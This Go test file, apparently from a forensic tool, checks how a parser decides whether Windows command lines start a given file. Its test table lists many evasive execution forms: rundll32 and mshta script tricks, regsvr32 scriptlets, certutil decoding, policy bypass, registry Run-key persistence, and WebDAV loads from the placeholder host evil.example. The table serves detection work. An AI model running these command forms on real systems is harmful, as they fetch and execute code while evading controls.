package command

import (
	"strings"
	"testing"

	"github.com/birthmark-dfir/birthmark/internal/winpath"
)

// The readings of a command line with the name of a file.
const (
	started    = "starts"
	copied     = "starts a copy"
	notStarted = "does not start"
	unclear    = "is not understood"
)

// reading returns what a command line does with a file, by the rules of package origin, if
// no other file exists.
func reading(line, file string) string {
	e := NewEnvironment("C", []string{"WEB01"}, []string{"192.0.2.7"}, `C:\Users\a`, false)
	uses, doubts := Read(line)
	is, sure, read := notStarted, len(doubts) == 0, 0
	base := winpath.Base(file)
	for _, u := range uses {
		of := *e.OfShell(u.Host)
		if u.Verb == Loads {
			of.Ending = ".dll"
		}
		for _, written := range u.Paths {
			full, known := of.Resolve(written, u.Folder)
			for _, p := range full {
				switch {
				case !winpath.Same(p, file):
				case u.Verb.Starts():
					is = started
				case u.Verb == Copies && is != started:
					is = copied
				case u.Verb == Passes:
					sure = false
				}
			}
			name := winpath.Base(strings.ReplaceAll(written, "/", `\`))
			if (u.Verb.Starts() || u.Verb == Passes || u.Verb == Copies) && !known && (strings.Contains(name, "%") || winpath.SameName(name, base) || winpath.SameName(name+".exe", base)) {
				sure = false
			}
		}
		if u.Verb != Copies && winpath.SameName(strings.TrimRight(winpath.Base(strings.ReplaceAll(u.Paths[len(u.Paths)-1], "/", `\`)), ". "), base) {
			read++
		}
	}
	switch {
	case is != notStarted:
		return is
	case !sure || strings.Count(winpath.Fold(line), winpath.Fold(base)) > read:
		return unclear
	}
	return notStarted
}

// forms are command lines by their host, and what they do with C:\x\e.exe, or with the file
// that is named last. A line that is not understood is never taken for one that does not
// start the file.
var forms = []struct{ host, line, want, file string }{
	{"CreateProcess", `C:\x\e.exe`, started, ""},
	{"CreateProcess", `"C:\x\e.exe" -a "b c"`, started, ""},
	{"CreateProcess", `C:\x\e`, started, ""},
	{"CreateProcess", `C:/x/e.exe`, started, ""},
	{"CreateProcess", `\\?\C:\x\e.exe`, started, ""},
	{"CreateProcess", `\??\C:\x\e.exe`, started, ""},
	{"CreateProcess", `C:\Program Files\a b\e.exe -q`, started, `C:\Program Files\a b\e.exe`},
	{"CreateProcess", `C:\Program Files\a b\e.exe -q`, started, `C:\Program.exe`},
	{"CreateProcess", `"C:\Program Files\a b\e.exe" -q`, notStarted, `C:\Program.exe`},
	{"CreateProcess", `C:\Prog"ram Files"\e.exe`, unclear, `C:\Program Files\e.exe`},
	{"CreateProcess", `"C:\Program Files"\e.exe`, unclear, `C:\Program Files\e.exe`},
	{"CreateProcess", `"C:\x\"e.exe`, unclear, ""},
	{"CreateProcess", `C:\x\y\..\e.exe`, started, ""},
	{"CreateProcess", `C:\x\.\e.exe.`, started, ""},
	{"CreateProcess", `scan.exe --not C:\x\e.exe`, unclear, ""},
	{"CreateProcess", `C:\y\launcher.exe "C:\x\e.exe"`, unclear, ""},
	{"CreateProcess", `%NOTHING%\e.exe`, unclear, ""},
	{"CreateProcess", `x\e.exe`, unclear, ""},

	{"share", `\\127.0.0.1\c$\x\e.exe`, started, ""},
	{"share", `\\WEB01\C$\x\e.exe`, started, ""},
	{"share", `\\192.0.2.7\C$\x\e.exe`, started, ""},
	{"share", `\\0xc0000207\C$\x\e.exe`, started, ""},
	{"share", `\\?\UNC\localhost\C$\x\e.exe`, started, ""},
	{"share", `\\.\UNC\localhost\C$\x\e.exe`, started, ""},
	{"share", `\\?\GLOBALROOT\Device\Mup\localhost\C$\x\e.exe`, started, ""},
	{"share", `\\web01\tools\e.exe`, unclear, ""},
	{"share", `\\evil.example\share\e.exe`, notStarted, ""},
	{"share", `\\evil.example@80\share\e.exe`, notStarted, ""},
	{"share", `\\evil.example@SSL@443\DavWWWRoot\e.exe`, notStarted, ""},
	{"share", `\\evil.example@SSL\DavWWWRoot\x\e.exe`, notStarted, ""},
	{"share", `\\198.51.100.9@8080\DavWWWRoot\e.exe`, notStarted, ""},
	{"share", `\\localhost@80\DavWWWRoot\e.exe`, unclear, ""},
	{"share", `\\WEB01@SSL@8443\x\e.exe`, unclear, ""},
	{"share", `\\;LanmanRedirector\localhost\c$\x\e.exe`, unclear, ""},
	{"share", `rundll32 \\127.0.0.1\c$\x\e.dll,Go`, started, `C:\x\e.dll`},
	{"share", `rundll32 \\evil.example@SSL\DavWWWRoot\e.dll,Go`, notStarted, `C:\x\e.dll`},
	{"share", `regsvr32 /s \\evil.example@80\s\e.dll`, notStarted, `C:\x\e.dll`},

	{"cmd", `cmd /c C:\x\e.exe`, started, ""},
	{"cmd", `cmd.exe /q /d /c "C:\x\e.exe"`, started, ""},
	{"cmd", `cmd /c C:\"x\e".exe`, started, ""},
	{"cmd", `cmd /c C:\Prog"ram Files"\e.exe -q`, started, `C:\Program Files\e.exe`},
	{"cmd", `cmd /c "C:\Program Files"\e.exe`, started, `C:\Program Files\e.exe`},
	{"cmd", `cmd /c start "" C:\Prog"ram Files"\e.exe`, started, `C:\Program Files\e.exe`},
	{"cmd", `cmd /c call C:\Prog"ram Files"\e.bat`, started, `C:\Program Files\e.bat`},
	{"cmd", `cmd /c C:\x^\e^.exe`, started, ""},
	{"cmd", `cmd /c (C:\x\e.exe)`, started, ""},
	{"cmd", `cmd /c @C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c echo off && C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c cd C:\x & e.exe`, started, ""},
	{"cmd", `cmd /c cd /d "C:\x" && .\e.exe`, started, ""},
	{"cmd", `cmd /c pushd C:\x & e`, started, ""},
	{"cmd", `cmd /c pushd \\127.0.0.1\c$\x & e.exe`, started, ""},
	{"cmd", `cmd /c C: & cd \x & e.exe`, started, ""},
	{"cmd", `cmd /c if exist C:\y C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c if not exist C:\y (C:\x\e.exe)`, started, ""},
	{"cmd", `cmd /c if 1==1 C:\x\e.exe`, unclear, ""},
	{"cmd", `cmd /c for %i in (C:\x\e.exe) do %i`, unclear, ""},
	{"cmd", `cmd /c for /f %i in ('dir /b C:\x') do C:\x\%i`, unclear, ""},
	{"cmd", `cmd /c set p=C:\x\e.exe& call %p%`, unclear, ""},
	{"cmd", `cmd /v:on /c "set p=C:\x\e.exe& !p!"`, unclear, ""},
	{"cmd", `cmd /c C:\x\e.exe | more`, started, ""},
	{"cmd", `cmd /c C:\x\e.exe > C:\y.txt 2>&1`, started, ""},
	{"cmd", `cmd /c more < C:\x\e.exe`, unclear, ""},
	{"cmd", `cmd /c type C:\x\e.bat | cmd`, unclear, `C:\x\e.bat`},
	{"cmd", `cmd /c echo C:\x\e.exe | cmd`, unclear, ""},
	{"cmd", `cmd < C:\x\e.bat`, unclear, `C:\x\e.bat`},
	{"cmd", `cmd /c subst Z: C:\x & Z:\e.exe`, unclear, ""},
	{"cmd", `cmd /c start /b /low C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c start "x" /max /wait "C:\x\e.exe"`, started, ""},
	{"cmd", `cmd /c start C:\x\e`, started, ""},
	{"cmd", `cmd /k C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c echo C:\x\e.exe`, notStarted, ""},
	{"cmd", `cmd /c rem C:\x\e.exe`, unclear, ""},
	{"cmd", `cmd /c del /f /q C:\x\e.exe`, notStarted, ""},
	{"cmd", `cmd /c attrib +h +s C:\x\e.exe`, notStarted, ""},
	{"cmd", `cmd /c if exist C:\x\e.exe del C:\x\e.exe`, notStarted, ""},
	{"cmd", `cmd /c echo x > C:\x\e.exe`, notStarted, ""},
	{"cmd", `%COMSPEC% /c C:\x\e.exe`, started, ""},
	{"cmd", `cmd /c %SystemDrive%\x\e.exe`, started, ""},
	{"cmd", `cmd /c cmd /c "start C:\x\e.exe"`, started, ""},
	{"cmd", `cmd /c ftype x=C:\x\e.exe %1`, unclear, ""},

	{"copies", `cmd /c copy C:\x\e.exe C:\y.exe & C:\y.exe`, copied, ""},
	{"copies", `cmd /c copy /y /b "C:\x\e.exe" "C:\a b\y.exe" && "C:\a b\y.exe" -q`, copied, ""},
	{"copies", `cmd /c copy C:\x\e.exe C:\d\ & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c copy C:\x\e.exe C:\d & start "" C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c copy C:\x\* C:\d & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c copy C:\x\*.exe C:\d & C:\d\e`, copied, ""},
	{"copies", `cmd /c copy /b C:\h.bin+C:\x\e.exe C:\y.exe & C:\y.exe`, copied, ""},
	{"copies", `cmd /c cd /d C:\x & copy e.exe y.exe & y.exe`, copied, ""},
	{"copies", `cmd /c cd /d C:\d & copy C:\x\e.exe & e.exe`, copied, ""},
	{"copies", `cmd /c copy C:\x\e.txt C:\y.exe & C:\y`, copied, `C:\x\e.txt`},
	{"copies", `cmd /c copy C:\x\e.exe %TEMP%\y.exe & %TEMP%\y.exe`, copied, ""},
	{"copies", `cmd /c copy C:\a.exe C:\x\e.exe & C:\x\e.exe`, started, ""},
	{"copies", `cmd /c move C:\x\e.exe C:\y.exe & C:\y.exe`, copied, ""},
	{"copies", `cmd /c move /y C:\x\e.tmp C:\x\y.exe & C:\x\y.exe`, copied, `C:\x\e.tmp`},
	{"copies", `cmd /c ren C:\x\e.txt y.exe & C:\x\y.exe`, copied, `C:\x\e.txt`},
	{"copies", `cmd /c cd C:\x & rename e.txt y.exe & y.exe`, copied, `C:\x\e.txt`},
	{"copies", `cmd /c xcopy /y C:\x\e.exe C:\d\ & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c xcopy /s /y C:\x C:\d & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c robocopy C:\x C:\d e.exe & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c robocopy C:\x C:\d /e & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c robocopy C:\ C:\d /e & C:\d\x\e.exe`, copied, ""},
	{"copies", `cmd /c certutil -decode C:\x\e.txt C:\y.exe & C:\y.exe`, copied, `C:\x\e.txt`},
	{"copies", `cmd /c certutil -f -decodehex C:\x\e.hex C:\y.dll & rundll32 C:\y.dll,Go`, copied, `C:\x\e.hex`},
	{"copies", `cmd /c type C:\x\e.exe > C:\y.exe & C:\y.exe`, copied, ""},
	{"copies", `cmd /c type C:\x\e.bin >> C:\y.exe & start C:\y.exe`, copied, `C:\x\e.bin`},
	{"copies", `cmd /c esentutl /y C:\x\e.exe /d C:\y.exe /o & C:\y.exe`, copied, ""},
	{"copies", `cmd /c expand C:\x\e.ex_ C:\y.exe & C:\y.exe`, copied, `C:\x\e.ex_`},
	{"copies", `cmd /c mklink C:\y.exe C:\x\e.exe & C:\y.exe`, copied, ""},
	{"copies", `cmd /c mklink /h C:\y.exe C:\x\e.exe && C:\y.exe`, copied, ""},
	{"copies", `cmd /c mklink /j C:\d C:\x & C:\d\e.exe`, copied, ""},
	{"copies", `cmd /c mklink /d C:\d C:\x & cd C:\d & e.exe`, copied, ""},
	{"copies", `powershell -c "Copy-Item C:\x\e.exe C:\y.exe; & C:\y.exe"`, copied, ""},
	{"copies", `powershell -c "Copy-Item -Path 'C:\x\e.exe' -Destination 'C:\y.exe'; Start-Process 'C:\y.exe'"`, copied, ""},
	{"copies", `powershell -c "cp C:\x\e.exe C:\d; C:\d\e.exe"`, copied, ""},
	{"copies", `powershell "[IO.File]::Copy('C:\x\e.exe','C:\y.exe'); saps C:\y.exe"`, copied, ""},
	{"copies", `powershell "mv C:\x\e.txt C:\y.ps1; powershell -File C:\y.ps1"`, copied, `C:\x\e.txt`},
	{"copies", `cmd /c copy C:\x\e.exe C:\y.exe & C:\z.exe`, notStarted, ""},
	{"copies", `cmd /c C:\y.exe & copy C:\x\e.exe C:\y.exe`, notStarted, ""},
	{"copies", `cmd /c copy C:\x\e.exe C:\y.exe & del C:\y.exe`, notStarted, ""},
	{"copies", `cmd /c certutil -hashfile C:\x\e.exe C:\y.exe & C:\z.exe`, notStarted, ""},

	{"powershell", `powershell -File C:\x\e.ps1`, started, `C:\x\e.ps1`},
	{"powershell", `powershell -ep bypass C:\x\e.exe`, started, ""},
	{"powershell", `powershell -c "& 'C:\x\e.exe'"`, started, ""},
	{"powershell", `powershell -c ". 'C:\x\e.ps1'"`, started, `C:\x\e.ps1`},
	{"powershell", `powershell Start-Process -FilePath C:\x\e.exe -WindowStyle Hidden`, started, ""},
	{"powershell", `powershell saps C:\x\e.exe`, started, ""},
	{"powershell", `powershell ii C:\x\e.exe`, started, ""},
	{"powershell", `powershell Import-Module C:\x\e.dll`, started, `C:\x\e.dll`},
	{"powershell", `powershell -c "iex (gc C:\x\e.txt -raw)"`, unclear, `C:\x\e.txt`},
	{"powershell", `powershell -c "gc C:\x\e.ps1 | iex"`, unclear, `C:\x\e.ps1`},
	{"powershell", `powershell -c "$p='C:\x\e.exe'; & $p"`, unclear, ""},
	{"powershell", `powershell -c "&('C:\x\e'+'.exe')"`, unclear, ""},
	{"powershell", `powershell -c "[Reflection.Assembly]::LoadFile('C:\x\e.dll')"`, unclear, `C:\x\e.dll`},
	{"powershell", `powershell -c "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList C:\x\e.exe"`, unclear, ""},
	{"powershell", `powershell -c "(New-Object -ComObject WScript.Shell).Run('C:\x\e.exe')"`, unclear, ""},
	{"powershell", `powershell -e ` + encoded(`start C:\x\e.exe`), started, ""},
	{"powershell", `powershell -e ` + encoded(`$x; C:\x\e.exe`), started, ""},
	{"powershell", `powershell rm C:\x\e.exe`, notStarted, ""},
	{"powershell", `powershell Unblock-File C:\x\e.exe`, notStarted, ""},
	{"powershell", `pwsh -File C:\x\e.ps1`, started, `C:\x\e.ps1`},

	{"rundll32", `rundll32 C:\x\e.dll,Go`, started, `C:\x\e.dll`},
	{"rundll32", `rundll32 "C:\x\e.dll",#1 a`, started, `C:\x\e.dll`},
	{"rundll32", `rundll32 C:\x\e.dll Go`, started, `C:\x\e.dll`},
	{"rundll32", `rundll32 C:\x\e,Go`, started, `C:\x\e.dll`},
	{"rundll32", `rundll32 C:\x\e.tmp,Go`, started, `C:\x\e.tmp`},
	{"rundll32", `rundll32 shell32.dll,ShellExec_RunDLL C:\x\e.exe`, started, ""},
	{"rundll32", `rundll32 url.dll,FileProtocolHandler C:\x\e.exe`, started, ""},
	{"rundll32", `rundll32 C:\y.dll,Go C:\x\e.exe`, unclear, ""},
	{"rundll32", `rundll32 javascript:"\..\mshtml,RunHTMLApplication ";x("C:\x\e.exe")`, unclear, ""},
	{"rundll32", `rundll32 -sta {00000000-0000-0000-0000-000000000001} C:\x\e.dll`, unclear, `C:\x\e.dll`},

	{"regsvr32", `regsvr32 /s C:\x\e.dll`, started, `C:\x\e.dll`},
	{"regsvr32", `regsvr32 /s "C:\x\e.ocx" C:\y.dll`, started, `C:\x\e.ocx`},
	{"regsvr32", `regsvr32 /i:C:\x\e.sct scrobj.dll`, started, `C:\x\e.sct`},
	{"regsvr32", `regsvr32 /i:C:\x\e.txt C:\y.dll`, unclear, `C:\x\e.txt`},

	{"wscript", `wscript C:\x\e.vbs`, started, `C:\x\e.vbs`},
	{"wscript", `wscript //e:jscript "C:\x\e.txt" a`, started, `C:\x\e.txt`},
	{"wscript", `cscript C:\y.vbs C:\x\e.exe`, unclear, ""},
	{"wscript", `wscript C:\"x"\e.vbs`, unclear, `C:\x\e.vbs`},
	{"wscript", `wscript C:\x"\e".vbs`, started, `C:\x\e.vbs`},
	{"mshta", `mshta C:\x\e.hta`, started, `C:\x\e.hta`},
	{"mshta", `mshta "C:\x\e.hta"`, started, `C:\x\e.hta`},
	{"mshta", `mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\e.exe")(window.close)`, unclear, ""},
	{"msiexec", `msiexec /q /i C:\x\e.msi`, started, `C:\x\e.msi`},
	{"msiexec", `msiexec /i "C:\x\e.msi" TRANSFORMS="C:\y.mst"`, started, `C:\x\e.msi`},
	{"msiexec", `msiexec /i C:\y.msi TRANSFORMS=C:\x\e.mst`, unclear, `C:\x\e.mst`},
	{"msiexec", `msiexec /y "C:\x\e.dll"`, started, `C:\x\e.dll`},
	{"msiexec", `msiexec /x C:\x\e.msi`, notStarted, `C:\x\e.msi`},
	{"java", `java -jar C:\x\e.jar`, started, `C:\x\e.jar`},
	{"java", `java -cp C:\x\e.jar Main`, unclear, `C:\x\e.jar`},
	{"java", `java -javaagent:C:\x\e.jar -jar C:\y.jar`, unclear, `C:\x\e.jar`},
	{"python", `python -u C:\x\e.py`, started, `C:\x\e.py`},
	{"python", `py -3.11 "C:\x\e.py" a`, started, `C:\x\e.py`},
	{"python", `python -c "import runpy; runpy.run_path('C:\\x\\e.py')"`, unclear, `C:\x\e.py`},
	{"dotnet", `dotnet C:\x\e.dll`, started, `C:\x\e.dll`},
	{"dotnet", `dotnet exec C:\x\e.dll`, unclear, `C:\x\e.dll`},
	{"node", `node C:\x\e.js`, started, `C:\x\e.js`},
	{"node", `node -w C:\x\e.js`, started, `C:\x\e.js`},
	{"php", `php -f C:\x\e.php`, started, `C:\x\e.php`},
	{"php", `php -c C:\x\e.php C:\y.php`, unclear, `C:\x\e.php`},
	{"perl", `perl -I C:\x\e.pl C:\y.pl`, unclear, `C:\x\e.pl`},
	{"node", `node -r C:\x\e.js C:\y.js`, unclear, `C:\x\e.js`},
	{"msbuild", `msbuild C:\x\e.csproj`, started, `C:\x\e.csproj`},
	{"msbuild", `msbuild C:\y.csproj /logger:C:\x\e.dll`, unclear, `C:\x\e.dll`},
	{"installutil", `InstallUtil /logfile= /U C:\x\e.dll`, started, `C:\x\e.dll`},
	{"regasm", `regasm /U C:\x\e.dll`, started, `C:\x\e.dll`},
	{"cmstp", `cmstp /s C:\x\e.inf`, started, `C:\x\e.inf`},
	{"odbcconf", `odbcconf /f C:\x\e.rsp`, started, `C:\x\e.rsp`},
	{"control", `control.exe C:\x\e.cpl`, started, `C:\x\e.cpl`},
	{"pcalua", `pcalua -a C:\x\e.exe`, started, ""},
	{"forfiles", `forfiles /p C:\Windows /m a.exe /c "C:\x\e.exe"`, started, ""},
	{"forfiles", `forfiles /p C:\x /m *.exe /c "cmd /c @path"`, unclear, ""},
	{"explorer", `explorer C:\x\e.exe`, started, ""},
	{"explorer", `explorer /select,C:\x\e.exe`, notStarted, ""},
	{"conhost", `conhost --headless cmd /c start C:\x\e.exe`, started, ""},
	{"wmic", `wmic process call create "C:\x\e.exe -q"`, started, ""},
	{"wmic", `wmic process call create "cmd /c \"C:\x\e.exe\" -q"`, started, ""},
	{"wmic", `wmic os get /format:"C:\x\e.xsl"`, unclear, `C:\x\e.xsl`},
	{"wmic", `wmic process where "ExecutablePath='C:\\x\\e.exe'" delete`, unclear, ""},
	{"runas", `runas /user:a "C:\x\e.exe -q"`, started, ""},
	{"schtasks", `schtasks /create /tn a /tr C:\x\e.exe /sc onlogon`, unclear, ""},
	{"sc", `sc create a binPath= C:\x\e.exe`, unclear, ""},
	{"reg", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\x\e.exe`, unclear, ""},
	{"at", `at 12:00 C:\x\e.exe`, unclear, ""},
	{"hh", `hh.exe C:\x\e.chm`, started, `C:\x\e.chm`},
	{"mmc", `mmc C:\x\e.msc`, started, `C:\x\e.msc`},
	{"bash", `bash -c /mnt/c/x/e.exe`, started, ""},
	{"wsl", `wsl -e /mnt/c/x/e.exe`, started, ""},
	{"wsl", `wsl sh -c "cp /mnt/c/x/e.exe /tmp; /tmp/e.exe"`, unclear, ""},
	{"bitsadmin", `bitsadmin /setnotifycmdline j C:\x\e.exe NULL`, started, ""},
	{"certoc", `certoc -LoadDLL C:\x\e.dll`, started, `C:\x\e.dll`},
	{"mavinject", `mavinject 123 /INJECTRUNNING C:\x\e.dll`, unclear, `C:\x\e.dll`},
	{"diskshadow", `diskshadow /s C:\x\e.txt`, unclear, `C:\x\e.txt`},
	{"tar", `tar --checkpoint-action=exec=C:\x\e.exe -cf a b`, unclear, ""},
	{"ftp", `ftp -s:C:\x\e.txt`, unclear, `C:\x\e.txt`},
	{"curl", `curl -K C:\x\e.txt`, notStarted, `C:\x\e.txt`},
}

// Of each form, what is started is found, or the line is named as not understood.
func TestForms(t *testing.T) {
	number := map[string]int{}
	for _, f := range forms {
		file := f.file
		if file == "" {
			file = `C:\x\e.exe`
		}
		got := reading(f.line, file)
		if got != f.want {
			t.Errorf("%s: %s: it %s %s, want: it %s", f.host, f.line, got, file, f.want)
		}
		number[got]++
	}
	t.Logf("%d forms: %v", len(forms), number)
}
